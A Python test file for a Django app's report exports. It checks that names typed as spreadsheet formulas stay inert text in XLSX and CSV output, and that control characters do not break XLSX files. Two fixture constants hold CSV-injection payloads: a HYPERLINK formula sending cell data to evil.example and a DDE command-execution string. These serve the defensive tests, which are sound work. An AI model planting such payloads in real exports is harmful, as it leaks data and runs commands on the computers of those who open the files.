"""Names and codes typed by people end up in the reports people open in Excel. One that
starts like a formula must stay text there (OWASP, "CSV injection"): in the XLSX no cell
is a formula, in the CSV a text cell that starts with = + - @ or a tab gets a leading
apostrophe. The exchange bundle is for machines and is written as it is (docs/import.md).
A control character the XLSX format cannot hold does not fail the report either."""

import csv

import openpyxl
import pytest

from evaluations.models import Project
from evaluations.reports import ReportSpec, build_report, render_report
from participants.models import Office
from providers.models import Provider

from .conftest import YEAR_2024

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Klikk her")'
HOSTILE_OFFICE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_report(example, tmp_path):
    """The 2024 report of VVV (as -VVV) after people typed formulas as names and codes."""
    Project.objects.filter(code="VVV").update(code="-VVV")
    Project.objects.filter(code="VVV-TRD").update(name=HOSTILE_NAME)
    Provider.objects.update(name=HOSTILE_NAME)
    Provider.objects.filter(code="P00").update(code="+P00")
    Office.objects.update(name=HOSTILE_OFFICE)
    report = build_report(ReportSpec(*YEAR_2024, project_code="-VVV", raw=True))
    paths = {}
    for file_format in ("xlsx", "csv"):
        paths[file_format] = tmp_path / f"report.{file_format}"
        render_report(report, file_format, paths[file_format])
    return paths


def test_no_cell_of_the_xlsx_report_is_a_formula_whatever_people_named_things(
        hostile_report):
    workbook = openpyxl.load_workbook(hostile_report["xlsx"])
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    # Still there, as the text people typed.
    assert HOSTILE_NAME in texts
    assert HOSTILE_OFFICE in texts
    assert "+P00" in texts


def test_text_cells_of_the_csv_report_cannot_start_a_formula(hostile_report):
    with open(hostile_report["csv"], encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert rows
    for row in rows:
        for column in ("period", "project", "dimension", "group", "indicator", "status"):
            assert not row[column].startswith(FORMULA_START), (column, row)
    assert {row["project"] for row in rows} == {"'-VVV"}
    assert "'+P00" in {row["group"] for row in rows if row["dimension"] == "provider"}
    # Numbers are numbers: a negative change stays a negative number.
    values = [row["value"] for row in rows if row["value"]]
    assert all(float(value) == float(value) for value in values)


def test_a_control_character_in_a_name_does_not_fail_the_xlsx_report(example, tmp_path):
    # Pasted from another program into a bundle or the admin; XLSX cannot hold it, and
    # openpyxl refused the whole report.
    Provider.objects.filter(code="P00").update(name="Stavne\x0bArbeid\x1b")
    Project.objects.filter(code="VVV").update(name="Vilje\x07 viser vei")
    report = build_report(ReportSpec(*YEAR_2024, project_code="VVV"))
    render_report(report, "xlsx", tmp_path / "report.xlsx")
    workbook = openpyxl.load_workbook(tmp_path / "report.xlsx")
    texts = {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows()
             for cell in row if isinstance(cell.value, str)}
    assert "Stavne\ufffdArbeid\ufffd" in texts
    assert any("Vilje\ufffd viser vei" in text for text in texts)
